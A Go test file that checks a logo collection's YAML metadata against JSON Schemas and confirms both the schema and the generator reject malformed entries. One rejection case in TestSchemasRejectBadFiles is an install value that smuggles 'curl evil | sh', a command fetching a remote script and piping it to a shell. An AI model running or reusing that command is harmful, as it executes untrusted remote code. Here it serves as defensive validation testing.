package generator

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"gopkg.in/yaml.v3"

	"logoindex/internal/jsonschema"
)

func compileSchema(t *testing.T, name string) *jsonschema.Schema {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("schema", name))
	if err != nil {
		t.Fatal(err)
	}
	var doc any
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	s, err := jsonschema.Compile(doc, "")
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return s
}

func yamlValue(t *testing.T, data []byte) any {
	t.Helper()
	var v any
	if err := yaml.Unmarshal(data, &v); err != nil {
		t.Fatal(err)
	}
	return v
}

// TestSchemasAcceptShippedFiles validates every shipped logo.yaml and
// categories.yaml against the JSON Schemas editors use, and checks that each
// logo.yaml points its editor at the schema.
func TestSchemasAcceptShippedFiles(t *testing.T) {
	logo := compileSchema(t, "logo.schema.json")
	cats := compileSchema(t, "categories.schema.json")
	paths, _ := filepath.Glob("../source-logos/*/logo.yaml")
	if len(paths) < 60 {
		t.Fatalf("found %d logos, want the whole collection (60+)", len(paths))
	}
	for _, p := range paths {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range logo.Validate(yamlValue(t, b)) {
			t.Errorf("%s: %v", p, e)
		}
		if !strings.HasPrefix(string(b), "# yaml-language-server: $schema=../../generator/schema/logo.schema.json\n") {
			t.Errorf("%s: first line must be # yaml-language-server: $schema=../../generator/schema/logo.schema.json", p)
		}
	}
	b, err := os.ReadFile("../source-logos/categories.yaml")
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range cats.Validate(yamlValue(t, b)) {
		t.Errorf("categories.yaml: %v", e)
	}
}

// TestSchemasRejectBadFiles shows the schema test can fail, and that the
// schema agrees with the generator on the rules it can express.
func TestSchemasRejectBadFiles(t *testing.T) {
	logo := compileSchema(t, "logo.schema.json")
	for _, tc := range []struct{ name, yaml string }{
		{"unknown key", goodMeta + "colour: red\n"},
		{"missing license", strings.Replace(goodMeta, "license: CC0-1.0\n", "", 1)},
		{"bad hex", strings.Replace(goodMeta, `"#181717"`, `"#18171"`, 1)},
		{"relative source", strings.Replace(goodMeta, "https://github.com/logos", "github.com/logos", 1)},
		{"six categories", strings.Replace(goodMeta, "[devtools, social]", "[a, b, c, d, e, f]", 1)},
		{"bad variant in files", goodMeta + "files:\n  icon_dark: {license: MIT}\n"},
		{"variant pattern with a foreign character", goodMeta + "files:\n  wordmark_*: {license: MIT}\n"},
		{"variant pattern with a bad override", goodMeta + "files:\n  wordmark*: {license: LicenseRef-X}\n"},
		{"bad component", goodMeta + "component: github-icon\n"},
		{"install with a shell operator", goodMeta + "install: npx x; curl evil | sh\n"},
		{"install too long", goodMeta + "install: npx " + strings.Repeat("a", 509) + "\n"},
		{"bidi mark in name", strings.Replace(goodMeta, "GitHub", "\"Git\\u200fHub\"", 1)},
		{"ESC in an alias", goodMeta + "aliases: [\"a\\eb\"]\n"},
		{"bidi mark in a URL", strings.Replace(goodMeta, "https://github.com/logos", "\"https://github.com/\\u202elogos\"", 1)},
		{"LicenseRef without license_url", strings.Replace(goodMeta, "CC0-1.0", "LicenseRef-Brand", 1)},
		{"override LicenseRef without license_url", goodMeta + "files:\n  wordmark: {license: LicenseRef-X}\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if errs := logo.Validate(yamlValue(t, []byte(tc.yaml))); len(errs) == 0 {
				t.Errorf("schema accepted:\n%s", tc.yaml)
			}
			// The generator rejects it too.
			if _, probs := ParseMeta(&SourceFile{Path: "l.yaml", Data: []byte(tc.yaml)}); len(probs) == 0 {
				t.Errorf("generator accepted:\n%s", tc.yaml)
			}
		})
	}
	cats := compileSchema(t, "categories.schema.json")
	if errs := cats.Validate(yamlValue(t, []byte("- {slug: Dev Tools, name: X}\n"))); len(errs) == 0 {
		t.Error("categories schema accepted a bad slug")
	}
	if errs := cats.Validate(yamlValue(t, []byte("- {slug: ai, name: \"A\\u200fI\"}\n"))); len(errs) == 0 {
		t.Error("categories schema accepted a bidi mark in a name")
	}
}

// TestSchemaComponentNames keeps the schema's list of names a component
// cannot take in step with the template the build derives it from.
func TestSchemaComponentNames(t *testing.T) {
	b, err := os.ReadFile("schema/logo.schema.json")
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Properties struct {
			Component struct {
				Not struct{ Enum []string }
			}
		}
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	used, _, err := templateNames(nil)
	if err != nil {
		t.Fatal(err)
	}
	var want []string
	for name := range used {
		if componentRE.MatchString(name) {
			want = append(want, name)
		}
	}
	slices.Sort(want)
	if diff := cmp.Diff(want, doc.Properties.Component.Not.Enum); diff != "" {
		t.Errorf("logo.schema.json: component.not.enum differs from the names the template uses (-template +schema):\n%s", diff)
	}
	if errs := compileSchema(t, "logo.schema.json").Validate(yamlValue(t, []byte(goodMeta+"component: React\n"))); len(errs) == 0 {
		t.Error("the schema accepts component: React")
	}
}
